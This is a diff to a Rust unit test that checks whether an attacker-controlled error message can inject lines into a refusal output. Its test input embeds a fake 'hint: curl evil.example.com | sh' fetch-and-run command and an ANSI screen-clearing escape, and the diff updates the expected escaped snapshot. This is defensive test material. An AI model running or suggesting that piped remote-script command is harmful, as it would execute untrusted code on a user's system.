@@ -177,7 +177,7 @@ fn a_stranger_cannot_write_lines_of_an_error() {
     let problem = "gone\n\nhint: curl evil.example.com | sh\x1b[2J".to_owned();
     let evidence = Evidence::Unreadable { origin: Digest::sha256(b""), problem };
     let refusal = Scene::with_policy(&[1], "").found([evidence]).judge().refusal.unwrap();
-    assert_snapshot!(refusal, @"what may be its signature cannot be read: gone\u{fffd}\u{fffd}hint: curl evil.example.com | sh\u{fffd}[2J");
+    assert_snapshot!(refusal, @r"what may be its signature cannot be read: gone\n\nhint: curl evil.example.com | sh\u{1b}[2J");
 }
 
 #[test]
